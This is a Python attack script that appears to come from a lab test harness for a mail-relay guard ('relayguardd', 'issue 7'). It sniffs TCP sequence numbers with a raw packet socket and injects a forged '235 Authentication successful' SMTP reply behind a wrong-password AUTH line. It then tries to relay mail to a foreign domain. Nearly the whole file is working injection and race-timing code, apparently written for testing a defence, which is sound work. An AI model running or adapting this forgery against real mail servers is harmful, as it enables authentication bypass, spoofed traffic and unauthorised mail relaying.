#!/usr/bin/python3
"""
forge.py SERVER RCPT -- the forged-server-reply attack of issue 7, live,
from the attacker namespace (as root): a real TCP connection to
SERVER:25, AUTH PLAIN with a wrong password, and, right behind the AUTH
line, a frame handed to the gateway on the wire that claims to be the
server's next bytes: "235 2.7.0 Authentication successful".  Then, on
whatever reply came first, MAIL, RCPT TO:<RCPT> (a foreign domain), DATA,
a body and the final dot, QUIT.

The kernel's own socket carries the dialogue; an AF_PACKET socket on
eth0 watches it to learn both sequence numbers, and sends the forgery
(which the gateway routes back to this host if nothing stops it: the
client's TCP then takes it as the server's reply and drops the real one
as a duplicate).

Prints one JSON object: the code of the AUTH reply the client got
("235": the forgery got through to the client; "535": it did not), the
codes of the replies after it, and "reset" if the connection was reset.
"""

import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "evasion"))
import techniques as T  # noqa: E402

GATEWAY = "203.0.113.1"
WAIT = 10.0			# seconds for any one reply


def neighbour_mac(ip):
    with open("/proc/net/arp") as f:
        for line in f.read().splitlines()[1:]:
            w = line.split()
            if w[0] == ip and w[3] != "00:00:00:00:00:00":
                return bytes.fromhex(w[3].replace(":", ""))
    return None


class Sniffer:
    """Both sequence spaces of one connection, from eth0's frames."""

    def __init__(self):
        # ETH_P_ALL: only the taps for every protocol see what leaves.
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                               socket.htons(0x0003))
        self.s.bind(("eth0", 0))
        self.srv_next = self.cli_next = None

    def drain(self, server, cport):
        while select.select([self.s], [], [], 0)[0]:
            f = self.s.recv(65535)
            ip = f[14:]
            if f[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 6:
                continue
            ihl = (ip[0] & 0x0F) * 4
            total = struct.unpack("!H", ip[2:4])[0]
            src = socket.inet_ntoa(ip[12:16])
            sp, dp, seq = struct.unpack("!HHI", ip[ihl:ihl + 8])
            off = (ip[ihl + 12] >> 4) * 4
            flags = ip[ihl + 13]
            end = (seq + total - ihl - off + (1 if flags & 0x03 else 0)) \
                & 0xFFFFFFFF
            if src == server and sp == 25 and dp == cport and \
                    struct.unpack("!H", ip[4:6])[0] != T.FORGED_IPID:
                self.srv_next = end
            elif dp == 25 and sp == cport:
                self.cli_next = end


def read_reply(sock, buf):
    """The next complete reply's code; buf is [bytes]."""
    end = time.monotonic() + WAIT
    while True:
        while b"\n" in buf[0]:
            line, buf[0] = buf[0].split(b"\n", 1)
            if len(line) >= 4 and line[3:4] == b" ":
                return line[:3].decode("latin-1")
        left = end - time.monotonic()
        if left <= 0:
            raise TimeoutError("no reply")
        sock.settimeout(left)
        data = sock.recv(4096)
        if not data:
            raise ConnectionResetError("closed")
        buf[0] += data


def realtime():
    """Run FIFO at a high priority, so that nothing on a busy machine gets
    between the AUTH line and the forgery behind it (the real reply
    follows in about a millisecond)."""
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    except (AttributeError, OSError):
        pass


def main(argv):
    server, rcpt = argv
    out = {"auth": None, "after": [], "reset": False}
    realtime()
    sn = Sniffer()
    sock = socket.create_connection((server, 25), timeout=WAIT)
    cport = sock.getsockname()[1]
    buf = [b""]
    try:
        read_reply(sock, buf)
        sock.sendall(b"EHLO attacker.test\r\n")
        read_reply(sock, buf)
        time.sleep(0.05)		# let the sniffer see the last bytes
        sn.drain(server, cport)
        gw = neighbour_mac(GATEWAY)
        with open("/sys/class/net/eth0/address") as f:
            mine = bytes.fromhex(f.read().strip().replace(":", ""))
        if sn.srv_next is None or sn.cli_next is None or gw is None:
            raise RuntimeError("sequence numbers or gateway MAC unknown")
        auth = b"AUTH PLAIN AGFsaWNlQGV4YW1wbGUudGVzdAB3cm9uZw==\r\n"
        # It acknowledges what the client had sent before AUTH: valid for
        # the client's TCP whether or not AUTH has left yet.
        frame = gw + mine + b"\x08\x00" + T.tcp_packet(
            server, sock.getsockname()[0], 25, cport, sn.srv_next,
            sn.cli_next, "PA",
            b"235 2.7.0 Authentication successful\r\n", ipid=T.FORGED_IPID)
        # Right behind the AUTH line.  Postfix answers within about a
        # millisecond, and now and then the real 535 still wins the race
        # to the client ("auth": "535" with no relayguardd in the way):
        # the caller tries again.  (Sent before the line's CRLF, the
        # forgery would always win, but the client's TCP then acknowledges
        # bytes the server never sent, and the server drops its segments.)
        sock.sendall(auth)
        sn.s.send(frame)
        out["auth"] = read_reply(sock, buf)
        sock.sendall(b"MAIL FROM:<forger@sender.test>\r\n")
        out["after"].append(read_reply(sock, buf))
        sock.sendall(b"RCPT TO:<%s>\r\n" % rcpt.encode())
        out["after"].append(read_reply(sock, buf))
        sock.sendall(b"DATA\r\n")
        out["after"].append(read_reply(sock, buf))
        sock.sendall(b"Subject: forged 235\r\n\r\nhello\r\n.\r\n")
        out["after"].append(read_reply(sock, buf))
        sock.sendall(b"QUIT\r\n")
        out["after"].append(read_reply(sock, buf))
    except (ConnectionResetError, BrokenPipeError):
        out["reset"] = True
    except (TimeoutError, socket.timeout) as e:
        out["error"] = str(e) or "timeout"
    except (OSError, RuntimeError) as e:
        out["error"] = str(e)
    finally:
        sock.close()
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
